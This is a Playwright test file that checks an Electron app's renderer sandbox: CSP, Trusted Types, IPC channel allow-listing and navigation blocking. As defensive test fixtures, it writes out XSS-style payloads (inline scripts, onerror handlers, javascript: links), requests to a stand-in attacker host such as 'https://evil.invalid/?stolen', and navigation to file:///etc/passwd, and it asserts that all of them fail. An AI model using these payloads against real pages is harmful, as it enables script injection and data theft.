import { expect, test } from './fixture.ts'
import { openedLinks, recordOpenedLinks } from './electron-actions.ts'

// The attacks of these tests log errors, which are expected.
test.use({ expectedErrors: /Content Security Policy|violates|refused|ERR_ABORTED|Not allowed to|Trusted/i })

test('A script in the page reaches neither Node nor Electron, gets no permission, and cannot change the exposed object (T-D1)', async ({
  openShared,
}) => {
  const { page } = await openShared()
  const seen = await page.evaluate(() => {
    const scope = globalThis as unknown as Record<string, unknown>
    const names = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global']
    const isReadOnly = !Reflect.set(scope, 'inplan', {}) && !Reflect.set(window.inplan!, 'invoke', () => 'mine')
    return { types: names.map((name) => typeof scope[name]), isReadOnly, keys: Object.keys(window.inplan!) }
  })
  expect(seen.types).toEqual(Array.from({ length: 7 }, () => 'undefined'))
  expect([seen.isReadOnly, seen.keys]).toEqual([true, ['invoke', 'subscribe']])
  const states = await page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone'] as PermissionName[]
    return Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state))
  })
  expect(states).toEqual(['denied', 'denied', 'denied', 'denied'])
})

test('No text is run as code or markup, and nothing is loaded from other servers (T-D1)', async ({ openShared }) => {
  const { page } = await openShared()
  const seen = await page.evaluate(async () => {
    const scope = globalThis as unknown as {
      ran?: unknown
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
    }
    const violated = new Set<string>()
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
    const make = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag) =>
      document.body.appendChild(document.createElement(tag))
    const attempts: Record<string, () => unknown> = {
      'an inline script': () => (make('script').textContent = 'window.ran = "inline"'),
      'a foreign script': () => (make('script').src = 'https://evil.invalid/a.js'),
      'a frame with markup': () => (make('iframe').srcdoc = '<script>parent.ran = "frame"</script>'),
      'markup with a handler': () => (make('div').innerHTML = '<img src="data:," onerror="window.ran = 1">'),
      'markup beside': () => make('div').insertAdjacentHTML('beforeend', '<b>x</b>'),
      'a handler as text': () => make('img').setAttribute('onerror', 'window.ran = "handler"'),
      // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
      'a function from text': () => new Function('return 1')(),
      // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
      'a timer from text': () => setTimeout('window.ran = "timer"'),
      'a policy of its own': () => scope.trustedTypes.createPolicy('mine', { createHTML: String }),
    }
    const taken: string[] = []
    // The attempts run in a separate task, because code that Playwright evaluates has more permissions.
    await new Promise<void>((resolve) => {
      setTimeout(() => {
        for (const [name, attempt] of Object.entries(attempts)) {
          try {
            attempt()
            taken.push(name)
          } catch {
            // The attempt is expected to fail.
          }
        }
        resolve()
      })
    })
    make('img').src = 'https://evil.invalid/?stolen'
    make('style').textContent = 'body { color: red }'
    const link = make('a')
    link.href = 'javascript:window.ran = "link"'
    link.click()
    const reached = await fetch('https://evil.invalid/').then(
      () => 'reached',
      () => 'refused',
    )
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
    return { taken, ran: scope.ran, reached, violated: [...violated] }
  })
  expect(seen.taken).toEqual([])
  expect([seen.ran, seen.reached]).toEqual([undefined, 'refused'])
  expect(seen.violated).toEqual(
    expect.arrayContaining([
      'connect-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-elem',
      'trusted-types',
    ]),
  )
})

test('The page can use only named IPC channels, and only with valid arguments (T-D2)', async ({ openShared }) => {
  const { page } = await openShared()
  const seen = await page.evaluate(async () => {
    const inplan = window.inplan!
    const attempt = async (...args: Parameters<typeof inplan.invoke>) => {
      try {
        const answer = await inplan.invoke(...args)
        return answer.ok ? 'taken' : answer.error.code
      } catch (error) {
        return (error as Error).message
      }
    }
    const hear = (event: string) => {
      try {
        inplan.subscribe(event, () => {})
        return 'heard'
      } catch (error) {
        return (error as Error).message
      }
    }
    return [
      await attempt('app.info', []),
      await attempt('app.quit', []),
      await attempt('electron-store-get-data', []),
      await attempt('app.info', ['extra']),
      await attempt('api.call', ['login', { body: {} }, {}]),
      await attempt('api.call', ['https://evil.invalid/', {}, {}]),
      hear('changed'),
      hear('electron-store-data'),
      typeof inplan.subscribe('changed', () => {})(),
    ]
  })
  expect(seen).toEqual([
    'taken',
    'app.quit is no channel',
    'electron-store-get-data is no channel',
    'malformed-request',
    'malformed-request',
    'malformed-request',
    'heard',
    'electron-store-data is no event',
    'undefined',
  ])
})

test('The page can neither navigate away nor open a window, and plain links open in the browser (T-D3)', async ({
  openShared,
}) => {
  const { electron, page } = await openShared()
  await recordOpenedLinks(electron)
  const address = page.url()
  const stillHere = () => page.evaluate(() => typeof (globalThis as unknown as { inplan: unknown }).inplan)
  for (const target of ['https://evil.invalid/', 'file:///etc/passwd', 'data:text/html,x', 'app://evil/index.html']) {
    await page.evaluate((url) => {
      location.href = url
    }, target)
    expect(await stillHere(), target).toBe('object')
  }
  for (const target of [
    'https://example.invalid/help',
    'file:///etc/passwd',
    'javascript:1',
    'https://a@evil.invalid/',
  ]) {
    expect(await page.evaluate((url) => window.open(url), target), target).toBeNull()
  }
  await expect.poll(() => openedLinks(electron)).toEqual(['https://example.invalid/help'])
  expect(page.url()).toBe(address)
  await expect.poll(() => electron.windows().length).toBe(1)
})
